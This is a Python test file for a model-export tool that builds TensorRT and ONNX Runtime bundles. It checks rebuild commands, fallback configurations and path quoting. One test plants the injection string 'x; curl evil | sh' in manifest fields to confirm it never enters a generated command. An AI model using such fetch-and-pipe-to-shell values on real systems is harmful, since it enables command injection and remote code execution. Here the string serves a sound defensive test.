"""The commands that errors give: the next command takes them, and makes the same bundle of them."""

from __future__ import annotations

import shlex
import shutil
from dataclasses import asdict, replace
from pathlib import Path

import pytest

from engines.bundle.folder import Bundle
from engines.bundle.kinds import ONNXRUNTIME, PARTS, TENSORRT, TENSORRT_RTX
from engines.bundle.manifest import FORMAT, Manifest, Part, Prompt
from engines.bundle.precision import BF16, COLUMN, FP8, FP16, INT4, INT8
from engines.bundle.rebuild import engine_words, rebuild, rebuild_unknown
from engines.errors import BundleError, OptionError
from engines.sizing.fit import assess, require_boards, require_sms, room_of
from engines.sizing.needs import Configuration
from engines.targets import target
from engines.trt.build import _again
from engines.trt.engine import rebuild_command
from engines.trt.options import EngineOptions, command, recorded
from export.checkpoint.config import read_config
from export.options import parse_arguments
from export.recipe import Recipe, settle
from tests.engines.manifests import edit
from tests.geometries import official, tiny
from tests.paths import ROOT


def recipe_of(arguments: list[str], geometry=None) -> Recipe:
    """What export/build.py makes of a command line for the official model."""
    config = replace(read_config(ROOT / "checkpoints/default"), geometry=geometry or official())
    return settle(parse_arguments(arguments), config)


def manifest_of(recipe: Recipe) -> Manifest:
    """The manifest of what a recipe builds, as far as it tells of the build."""
    return Manifest(
        format=FORMAT, name="b", precision=recipe.precision.name, page_budget=recipe.page_budget,
        geometry=recipe.geometry, prompt=Prompt("<image>{prompt}", None, 1, (2,)),
        parts={part: Part(f"{part}.weights", {}, {}) for part in PARTS}, backend=recipe.backend, kernels=None, files={},
        versions={}, source={}, options=recipe.record({"rows": 1} if recipe.calibrate else None), dropped={},
        block_size=recipe.coding.linear.block if recipe.coding.linear else None, residency=recipe.residency,
    )  # fmt: skip


def words_of(text: str) -> list[str]:
    """The arguments of a command `python export/build.py ...`."""
    python, script, *words = shlex.split(text)
    assert (python, script) == ("python", "export/build.py")
    return words


LINES = [
    "",
    "--fp32",
    "--bf16 --check none",
    "--int8 --block-size column --kv int8",
    "--kv-cache int8",
    "--int4 --kv int8 --kv-cache int8 --projection lazy",
    "--int4 --calibrate DATA --check weights",
    "--int4 --block-size 64 --quantize-head",
    "--int4 --head int8 --vision int8 --embeddings int8",
    "--int8 --block-size column --head int4 --vision int4",
    "--int8 --head int8",
    "--embeddings int8",
    "--fp8 --head int4 --block-size 64",
    "--fp8 --quantize-head --embeddings int8",
    "--int8 --projection lazy --page-budget 7",
    "--int4 --projection lazy --page-slots 24",
    "--context 1024",
    "--residency shared --int8",
    "--backend tensorrt-rtx",
    "--backend tensorrt --no-plugins",
    "--fp8 --backend tensorrt-rtx --target sm_89,sm_120",
    "--target orin-nx-16 --int4",
    "--target rtx-4090 --int4 --batch 2 --workspace 512 --optimization-level 4",
    "--backend tensorrt-rtx --target sm_86,rtx-4090 --int4 --no-timing-cache --keep-log --kv int8 --context 1500",
]


@pytest.mark.parametrize("line", LINES)
def test_the_command_makes_the_same_bundle(line):
    first = recipe_of(["--model", "CHECKPOINT", "--out", "B", *shlex.split(line)])
    again = recipe_of(words_of(rebuild(manifest_of(first), "B")))
    assert again == first


def test_a_path_is_quoted(tmp_path):
    manifest = manifest_of(recipe_of([]))
    for path in ("my bundle", "a;b", "$(c)", "it's"):
        assert words_of(rebuild(manifest, path))[3] == path
        assert words_of(rebuild_unknown(path)) == ["--model", "CHECKPOINT", "--out", path]


def test_a_manifest_puts_no_words_of_its_own_into_a_command():
    hostile = "x; curl evil | sh"
    record = {
        "plugins": hostile, "targets": [86, hostile, True, "89"], "boards": [hostile, "--x y", "rtx-4090"],
        "workspace": hostile, "batch": hostile, "optimization_level": [1], "timing_cache": hostile, "keep_log": hostile,
    }  # fmt: skip
    assert engine_words(record) == ["--target", "rtx-4090,sm_86"]
    used = {"backend": hostile, "check": hostile, "calibrate": hostile, "model": hostile, "quantize_head": hostile}
    manifest = replace(manifest_of(recipe_of(["--int4"])), options={**used, TENSORRT_RTX: hostile})
    for backend in (None, TENSORRT_RTX):
        assert hostile not in rebuild(manifest, "B", backend=backend)
        recipe_of(words_of(rebuild(manifest, "B", backend=backend)))
    for odd in (record, hostile, None, 7, {"targets": [1]}, {"batch": 10**9}, {"targets": 86}):
        assert recorded(odd, TENSORRT_RTX) == EngineOptions(TENSORRT_RTX)


# What fits instead.


@pytest.mark.parametrize(
    ("precision", "block", "board", "batch", "context"),
    [
        (FP16, None, "orin-nx-16", 1, 2048),
        (BF16, None, "orin-nx-16", 4, 2048),
        (INT8, COLUMN, "orin-nano-8", 1, 2048),
        (INT8, 64, "orin-nx-16", 8, 2048),
        (FP16, None, "rtx-4090", 16, 2048),
        (INT4, 32, "orin-nano-8-super", 2, 2048),
    ],
)
def test_a_smaller_configuration_is_one_that_can_be_asked_for(precision, block, board, batch, context):
    c = Configuration(official(context=context), precision, block=block, batch=batch, backend=target(board).backend)
    found = assess(c, room_of(target(board)))
    options = EngineOptions(c.backend, batch=batch)
    words = ["--out", "B", f"--{precision}", "--backend", c.backend, "--batch", str(batch)]
    words += ["--block-size", "column" if block == COLUMN else str(block)] if block is not None else []
    manifest = manifest_of(recipe_of(words))
    if found.proposal is None:
        assert not found.fits
        return
    wanted = found.proposal.configuration
    again = recipe_of(words_of(_again(manifest, Path("B"), options, wanted)))
    made = again.configuration()
    assert (made.precision, made.batch, made.geometry) == (wanted.precision, wanted.batch, wanted.geometry)
    if not found.runs:
        with pytest.raises(OptionError) as caught:
            require_boards(c, (board,), lambda other: _again(manifest, Path("B"), options, other))
        assert "build the bundle again: python export/build.py" in caught.value.fix
        with pytest.raises(OptionError) as caught:
            require_boards(c, (board,))
        if wanted.precision != precision:  # the command line takes one precision
            assert f"(in place of --{precision}" in caught.value.fix


def test_a_precision_that_a_gpu_lacks():
    c = Configuration(official(), FP8, backend=TENSORRT_RTX)
    with pytest.raises(OptionError) as caught:
        require_sms(c, (86,))
    assert caught.value.fix == "add --int8 --block-size column (in place of --fp8)"
    manifest, options = manifest_of(recipe_of(["--fp8", "--backend", TENSORRT_RTX])), EngineOptions(TENSORRT_RTX)
    with pytest.raises(OptionError) as caught:
        require_sms(c, (86,), lambda other: _again(manifest, Path("B"), options, other))
    again = recipe_of(words_of(caught.value.fix.partition(": ")[2]))
    assert again.precision == INT8 and again.coding.block == COLUMN and again.backend == TENSORRT_RTX


# Of opened bundles.


@pytest.fixture
def bundle(random_model, tmp_path) -> Path:
    return Path(shutil.copytree(random_model("tiny", tiny())[1], tmp_path / "bundle"))


def test_errors_of_a_bundle_give_its_own_command(bundle):
    edit(bundle, lambda manifest: manifest["options"].update(check="none"))
    (bundle / "pages.onnx").unlink()
    with pytest.raises(BundleError, match=r"pages\.onnx is missing") as caught:
        Bundle(bundle)
    said = caught.value.fix.partition("rebuild it: ")[2]
    options = parse_arguments(words_of(said))
    assert (options.precision, options.context, options.check, options.backend) == ("fp32", 160, "none", ONNXRUNTIME)


@pytest.mark.parametrize(
    ("backend", "sm", "expected"),
    [
        (TENSORRT_RTX, 80, ["--backend", "tensorrt-rtx", "--target", "sm_86,sm_89,sm_120,sm_80"]),
        (TENSORRT_RTX, 90, ["--backend", "tensorrt"]),
        (TENSORRT, 110, ["--backend", "tensorrt"]),
    ],
)
def test_engines_for_another_gpu_need_kernels_for_it(bundle, backend, sm, expected):
    """This bundle has no kernels: engines alone cannot be built again."""
    said = rebuild_command(Bundle(bundle), backend, sm=sm)
    words = words_of(said[said.index("python export") :])
    assert words[words.index("--backend") :][: len(expected)] == expected
    recipe_of(words, tiny())


def test_a_gpu_that_there_are_no_kernels_for(bundle):
    opened = Bundle(bundle)
    assert (
        rebuild_command(opened, TENSORRT, sm=75) == f"python -m engines.build {bundle} --backend tensorrt --no-plugins"
    )
    lazy = replace(opened.manifest.parts["decoder"], graphs={})
    opened.manifest = replace(opened.manifest, parts={**opened.manifest.parts, "decoder": lazy})
    assert "backend='onnxruntime'" in rebuild_command(opened, TENSORRT, sm=75)


def test_engines_are_built_again_with_the_options_they_had(bundle):
    options = EngineOptions(TENSORRT_RTX, plugins=False, targets=(89,), batch=2, workspace=64)
    edit(bundle, lambda manifest: manifest["options"].update({TENSORRT_RTX: asdict(options)}))
    assert rebuild_command(Bundle(bundle), TENSORRT_RTX) == command(bundle, options)
    assert rebuild_command(Bundle(bundle), TENSORRT_RTX, batch=4) == command(bundle, replace(options, batch=4))
